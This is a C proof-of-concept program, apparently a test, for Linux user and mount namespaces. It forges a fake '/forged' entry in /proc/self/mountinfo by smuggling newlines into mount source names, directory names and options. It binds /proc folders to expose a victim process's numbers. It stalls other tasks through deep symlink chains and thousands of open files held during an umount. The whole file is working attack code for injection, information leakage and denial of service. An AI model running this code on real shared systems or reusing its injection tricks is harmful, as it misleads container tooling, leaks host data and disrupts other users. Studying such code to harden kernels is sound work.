/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What can be done with mounts of one's own: to write lines of mountinfo by the
 * options of a mount, to have the host's numbers of processes shown by a bind
 * of their folders, and to have the others wait: for paths that lead through
 * many links, and for an umount while many files are open.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>
#include "waiter.h"

#define FAR   1000 /* numbers that come after the victim's */
#define DEPTH 900
#define FILES 15000

static long victim;
static bool known[FAR]; /* devices and options of the machine's mounts, too */

static void must(const char *what, long r)
{
	if (r >= 0)
		return;
	perror(what);
	exit(1);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	must(path, fd);
	must(path, write(fd, text, strlen(text)));
	close(fd);
}

static void enter(void)
{
	char map[64];
	unsigned int uid = getuid(), gid = getgid();

	must("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);
	must("tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
}

/* ---- what mountinfo says ---- */

static void look_at(char *line, bool before)
{
	if (strstr(line, " /forged "))
		puts("forged");
	for (char *at = line; *at; at++) {
		long n = strtol(at, &at, 10);

		if (n >= victim && n < victim + FAR) {
			if (before)
				known[n - victim] = true;
			else if (!known[n - victim])
				printf("a number in: %s\n", line);
		}
		if (!*at)
			break;
	}
}

static void read_file(const char *path, bool before)
{
	static char text[1 << 20];
	char *rest = text, *line;
	FILE *file = fopen(path, "r");

	text[fread(text, 1, sizeof(text) - 1, file)] = 0;
	fclose(file);
	while ((line = strsep(&rest, "\n")))
		look_at(line, before);
}

static void read_mounts(bool before)
{
	read_file("/proc/self/mountinfo", before);
	read_file("/proc/self/mounts", before);
	read_file("/proc/self/mountstats", before);
}

static void forge(void)
{
	static const char *const types[] = { "proc",   "sysfs", "devpts",
					     "mqueue", "tmpfs", "ramfs" };
	const char *line = "x\n99 1 0:5 / /forged rw - tmpfs none rw";

	must("mkdir", mkdir("/mnt/a\n99 1 0:5 ", 0755));
	must("mkdir", mkdir("/mnt/a\n99 1 0:5 / ", 0755));
	must("mkdir", mkdir("/mnt/at", 0755));
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		mount(line, "/mnt/at", types[i], 0, line);
		mount(line, "/mnt/at", types[i], 0, NULL);
		mount(line, "/mnt/a\n99 1 0:5 / ", types[i], 0, NULL);
	}
}

static void bind_numbers(void)
{
	static const char *const folders[] = {
		"/proc/self",	 "/proc/1",	   "/proc/self/task",
		"/proc/self/ns", "/proc/self/fd",  "/proc/thread-self",
		"/proc/net",	 "/proc/self/cwd", "/proc/self/root",
	};
	static const char *const files[] = { "/proc/self/status",
					     "/proc/self/mem" };

	must("mkdir", mkdir("/mnt/on", 0755));
	close(open("/mnt/file", O_CREAT | O_WRONLY, 0644));
	for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++) {
		mount(folders[i], "/mnt/on", NULL, MS_BIND, NULL);
		mount(folders[i], folders[i], NULL, MS_BIND, NULL);
	}
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		mount(files[i], "/mnt/file", NULL, MS_BIND, NULL);
		mount(files[i], files[i], NULL, MS_BIND, NULL);
	}
}

/* ---- what takes long ---- */

static void walk_links(void)
{
	char text[4096] = "", name[16];
	struct stat st;

	must("mkdir", mkdir("/mnt/d", 0755));
	must("chdir", chdir("/mnt/d"));
	while (strlen(text) < 4000)
		strcat(text, "../d/");
	for (int i = 0; i < 40; i++) {
		snprintf(name, sizeof(name), "%d", i);
		snprintf(text + 4000, 16, "%d", i + 1);
		must("symlink", symlink(text, name));
	}
	for (int i = 0; i < 3; i++)
		rename("/mnt/d/1/x", "/mnt/d/1/y");
	stat("/mnt/d/1", &st);
}

static void open_many(void)
{
	struct rlimit limit;

	must("getrlimit", getrlimit(RLIMIT_NOFILE, &limit));
	limit.rlim_cur = limit.rlim_max;
	must("setrlimit", setrlimit(RLIMIT_NOFILE, &limit));
	must("mkdir", mkdir("/mnt/deep", 0755));
	must("chdir", chdir("/mnt/deep"));
	for (int i = 0; i < DEPTH; i++) {
		must("mkdir", mkdir("d", 0755));
		must("chdir", chdir("d"));
	}
	for (int i = 0; i < FILES; i++)
		if (open(".", O_RDONLY) < 0)
			break;
	must("chdir", chdir("/"));
	must("mkdir", mkdir("/mnt/other", 0755));
	must("tmpfs", mount("none", "/mnt/other", "tmpfs", 0, NULL));
	must("umount", umount("/mnt/other"));
}

int main(int argc, char **argv)
{
	victim = atoi(argv[argc - 1]);
	waiter_start();
	enter();
	read_mounts(true);
	forge();
	bind_numbers();
	read_mounts(false);
	walk_links();
	open_many();
	waiter_end();
	puts("done");
	return 0;
}
